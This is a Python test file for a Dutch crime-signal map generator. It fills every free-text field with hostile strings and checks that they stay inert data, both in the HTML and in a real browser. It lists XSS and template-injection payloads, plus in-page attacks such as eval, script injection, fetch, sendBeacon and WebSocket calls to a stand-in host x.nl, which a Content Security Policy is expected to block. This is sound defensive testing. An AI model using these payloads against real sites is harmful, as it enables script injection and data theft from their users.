"""Hostile texts in every place where a text can come from: nothing runs, nothing is asked for, nothing breaks.

`FROM_THE_PACKAGE` lists the texts of the header that are constants of the package or come from lists it checks. Every
other text must be hostile in these tests, so that a new one cannot be forgotten.
"""

import dataclasses
import json
import re
from collections.abc import Iterator
from typing import Any

import hypothesis
import pytest
from hypothesis import strategies as st

from geoanalyse.products import kaart, kaartblok, terugblik
from geoanalyse.release import Release
from geoanalyse.routes import Advice
from tests.browser_fixtures import Open, Visit
from tests.sample import sample_release

MARK = "vijandig"
SCRIPT = "alert(1)"
TEXTS = {
    "quotes": f'{MARK} "\'` onmouseover={SCRIPT} x=\'" y="',
    "end of script": f"{MARK}</script><script>{SCRIPT}</script><!--<script>]]>",
    "end of title and style": f"{MARK}</title></style></textarea><svg onload={SCRIPT}><img src=x onerror={SCRIPT}>",
    "templates": f"{MARK} ${{{SCRIPT}}} {{{{7*7}}}} {{% raw %}} #{{{SCRIPT}}} <%= 1 %> [[x]] `${{{SCRIPT}}}`",
    "addresses": f"{MARK} javascript:{SCRIPT} https://x.nl/?a=1&amp;b=2 data:text/html,<b> //x.nl url(http://x.nl/a)",
    "entities": f"{MARK} &lt;img src=x onerror={SCRIPT}&gt; &#60;b&#62; &amp;quot; \\u003cb\\u003e \\x3c",
    "bidi": f"{MARK} \u202e\u2066\u200f\u061c tekst \u2069\u202c",
    "control": f"{MARK} \u0000\u0007\u001b\u0085\u2028\u2029\ufeff\r\n\t tekst",
    "scripts": f"{MARK} العربية עברית ไทย 中文 हिन्दी Ελληνικά Кириллица ქართული 𐍈 👩‍👩‍👧‍👦 🇳🇱 ﷽ ꧅",
    "marks": f"{MARK} Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ {'́' * 200}",
    "long": f"{MARK} {'lang ' * 2000}",
    "long without a space": f"{MARK}{'W' * 10_000}",
    "proto": f"{MARK} __proto__ constructor toString \\ \" ' \u00a0 \u200b",
}

FROM_THE_PACKAGE = re.compile(
    r"version|profile|profile_words|start|end|period|reference_date|demo|retain_until|digest|zones_version|area"
    r"|promise\..*|accessibility\..*|words\..*|colours\..*|arrays\[\]\[\]|grondslag\[\]\[\]"
    r"|regions\[\]\[\]|unit_sets\[\]\.(base|level|ids\[\])"
    r"|layers\[\]\.(id|theme|base|atom|drives|uses|reliability|coverage\[\]|classes\[\]|short\[\]|period_unit|window)"
    r"|signals\[\]\.(id|theme|zone|level|strength|reliability|route)"
    r"|series\..*|windows.*|compare.*"
)
OWN_TITLES = {"Totaalbeeld drugs", "Totaalbeeld witwassen", terugblik.TITLE, terugblik.ON_THE_MAP}
MIXED = {"grondslag[][]": 5, "regions[][]": 1}
"""Lists in which hostile texts stand between others, and how many of them there are at least."""


def hostile(release: Release, text: str) -> Release:
    """Put a text in every field that an organisation, a file or a region can name freely."""
    texts = ("title", "description", "unit", "holder", "source", "text", "bias_text", "legal_basis", "cap_reason")
    regions = dataclasses.replace(
        release.geography.regions, names=(text,) * len(release.geography.regions.names), source=text
    )
    grondslag = ("decision", "purpose", "question", "follow_up", "classification")
    signal = ("region_name", "wijk_name", "gemeente_name", "unknown")
    return dataclasses.replace(
        release,
        layers=tuple(dataclasses.replace(layer, **dict.fromkeys(texts, text)) for layer in release.layers),
        area=dataclasses.replace(release.area, title=text, source=text),
        geography=dataclasses.replace(release.geography, regions=regions),
        grondslag=dataclasses.replace(release.grondslag, **dict.fromkeys(grondslag, text)),
        signals=tuple(
            dataclasses.replace(
                each,
                **dict.fromkeys(signal, text),
                reasons=(("x", text),),
                advice=Advice(each.route, (text, text), text, text, text),
            )
            for each in release.signals
        ),
        caveat=text,
    )


def texts(value: Any, path: str = "") -> Iterator[tuple[str, str]]:  # noqa: ANN401 - any JSON
    if isinstance(value, dict):
        for key, each in value.items():
            yield from texts(each, f"{path}.{key}".lstrip("."))
    elif isinstance(value, list):
        for each in value:
            yield from texts(each, f"{path}[]")
    elif isinstance(value, str):
        yield path, value


@pytest.fixture(scope="module")
def release() -> Release:
    return sample_release()


def test_every_text_that_is_not_the_packages_own_is_hostile_here(release: Release) -> None:
    header, _ = kaart.read_map(kaart.map_html(hostile(release, TEXTS["quotes"])))
    tame = [(path, text) for path, text in texts(header) if MARK not in text and not FROM_THE_PACKAGE.fullmatch(path)]
    assert [each for each in tame if each[1] and each[1] not in OWN_TITLES] == []
    for path, least in MIXED.items():
        assert sum(MARK in text for where, text in texts(header) if where == path) >= least


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_hostile_text_is_data_and_nothing_else(release: Release, text: str) -> None:
    page = kaart.map_html(hostile(release, text))
    usual = kaart.map_html(release)

    def frame(of: str) -> str:
        data = re.sub(r'(id="gegevens">)[^<]*', r"\1", of)
        named = re.sub(r"<title>[^<]*</title>|<h1>.*?</h1>", "", data, flags=re.DOTALL)
        return re.sub(r'title="[^"]*"', "", named)

    assert frame(page) == frame(usual)  # nothing but the block of data and the escaped title differs
    header, _ = kaart.read_map(page)
    assert MARK in header["title"]
    kept = json.dumps(header, ensure_ascii=False)
    assert not set(kept) & {chr(number) for number in (0x202E, 0x2066, 0x200F, 0x61C, 0, 7, 0x1B)}


@hypothesis.settings(max_examples=30)
@hypothesis.given(st.text(st.characters(codec=None), max_size=60))
def test_any_text_survives_the_block_but_for_control_characters(text: str) -> None:
    header, _ = kaartblok.unpack(kaartblok.pack({"naam": text, text: 1}, kaartblok.Columns()))
    assert header["naam"] == kaartblok._clean(text)
    assert set(header["naam"]) <= set(text)


@pytest.mark.browser
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_hostile_text_does_nothing_in_the_browser(chromium: Open, release: Release, text: str) -> None:
    visit = chromium(kaart.map_html(hostile(release, text)), "#laag=fiu-signalen&niveau=zone")
    visit.wait("document.documentElement.dataset.klaar === 'alles'")
    use(visit)
    assert visit.page.locator("img, iframe, object, embed, form, base, body svg[onload]").count() == 0
    assert visit.page.evaluate("document.scripts.length") == 5
    assert visit.page.evaluate(
        "[...document.querySelectorAll('*')].every((e) => [...e.attributes].every((a) => !/^on/.test(a.name)))"
    )
    assert len(visit.requests) == 1
    assert visit.problems == []
    # What a text says cannot push the map off the screen, nor hide what everyone must see.
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= 1366
    box = visit.page.locator("#kaart").bounding_box()
    assert box is not None
    assert box["y"] + box["height"] <= 768 + 1
    assert box["height"] > 300
    assert visit.page.locator(".merken .veilig").is_visible()
    assert visit.page.locator("#demo").is_visible()


def use(visit: Visit) -> None:
    """Go through all that shows texts: layers, a place, a signal, the table, the search, what is below."""
    page = visit.page
    page.mouse.move(700, 400)
    page.mouse.click(660, 420)
    for layer in ("thema:drugs", "kvk-registraties", "pandsluitingen", "fiu-signalen"):
        page.locator(f'#lagen input[value="{layer}"]').check()
    page.locator("#paneel .lijst button, #paneel .sluit").first.click()
    page.get_by_label("Zoek een buurt of wijk").fill(MARK)
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.get_by_label("Zoek in de tabel").fill(MARK)
    page.get_by_role("button", name="Lees de hele belofte").click()
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    page.evaluate("window.scrollTo(0, 0)")


ATTACKS = {
    "markup": "document.body.innerHTML = '<b id=raak>x</b>'",
    "markup by another way": "document.body.insertAdjacentHTML('beforeend', '<b id=raak>x</b>')",
    "a parsed document": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "a script element": "const s = document.createElement('script'); s.textContent = 'window.raak = 1';"
    " document.body.append(s)",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://x.nl/a.js';"
    " document.body.append(s)",
    "an inline handler": "document.body.setAttribute('onclick', 'window.raak = 1'); document.body.click()",
    "eval": "eval('window.raak = 1')",
    "a function from text": "new Function('window.raak = 1')()",
    "a timer from text": "setTimeout('window.raak = 1', 0)",
    "a picture": "new Image().src = 'https://service.pdok.nl/a.png'",
    "a request": "fetch('https://x.nl/?a=1').catch(() => {})",
    "a beacon": "navigator.sendBeacon('https://x.nl/', 'a')",
    "a socket": "new WebSocket('wss://x.nl/')",
    "a style from elsewhere": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.href = 'https://x.nl/a.css'; document.head.append(l)",
    "a style of its own": "const s = document.createElement('style'); s.textContent = '#kaart { display: none }';"
    " document.head.append(s)",
    "a frame": "const f = document.createElement('iframe'); f.src = 'https://x.nl/'; document.body.append(f)",
    "a form": "const f = document.createElement('form'); f.action = 'https://x.nl/'; document.body.append(f);"
    " f.submit()",
    "another base": "const b = document.createElement('base'); b.href = 'https://x.nl/'; document.head.append(b)",
    "another policy": "trustedTypes.createPolicy('meer', { createHTML: (text) => text })",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))",
}


@pytest.mark.browser
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_even_a_script_inside_the_page_cannot_do_what_the_policy_forbids(
    chromium: Open, release: Release, attack: str
) -> None:
    """Were there a hole after all, the policy would be the second wall: each of these is stopped, and reported."""
    visit = chromium(kaart.map_html(release))
    visit.wait("document.documentElement.dataset.klaar === 'alles'")
    failed: dict[str, str] = {}
    visit.page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    # In a task of its own, since what a test evaluates directly may do what a page may not.
    script = f"setTimeout(() => {{ try {{ {attack} }} catch (error) {{ window.__stopped = String(error); }} }}, 0)"
    visit.page.evaluate(script)
    visit.wait("window.__stopped !== undefined || window.__violations.length > 0")
    visit.page.wait_for_timeout(50)
    assert visit.page.evaluate("window.raak === undefined && !document.getElementById('raak')")
    assert visit.page.locator("#kaart").is_visible()
    asked = [url for url in visit.requests if not url.startswith("file:")]
    assert all("csp" in failed[url].lower() for url in asked)
